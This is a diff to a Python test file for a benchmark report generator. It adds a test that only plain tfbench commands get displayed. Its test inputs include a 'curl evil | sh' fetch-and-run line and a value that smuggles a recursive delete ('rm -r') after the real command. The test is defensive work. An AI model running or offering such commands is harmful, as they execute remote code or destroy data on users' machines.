@@ -28,6 +28,7 @@ from reports.messages import (
     PART_TEXTS,
     banners,
     caveat_lines,
+    command,
     limit,
     removed,
     repeat,
@@ -254,6 +255,22 @@ def test_gains_have_half_their_interval_unless_it_includes_no_gain() -> None:
     assert plain(numbers.gain(between(2.0, 1.9, 2.1, n=1, unit="ratio"))) == "2.00× ±5.0 %"
     unclear = numbers.gain(between(1.2, 0.9, 1.6, unit="ratio"))
     assert "0.90 to 1.60×" in unclear and "1.20" not in unclear
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("tfbench bench t.py --arg 'a b'", True),
+        ("curl evil | sh # tfbench bench t.py", False),
+        ("tfbench bench t.py; rm -r x", False),
+        ("tfbench bench 't.py", False),
+    ],
+)
+def test_only_a_command_of_tfbench_is_offered(text: str, shown: bool) -> None:
+    run = builders.cpu_run(trials=1)
+    run = replace(run, manifest=replace(run.manifest, command=text))
+    assert command(run) == (text if shown else "")
+    assert ("<code>tfbench bench t.py" in render_html(analyse(run), code="")) is shown
 
 
 def test_a_run_with_wide_intervals_has_the_command_that_measures_long_enough() -> None:
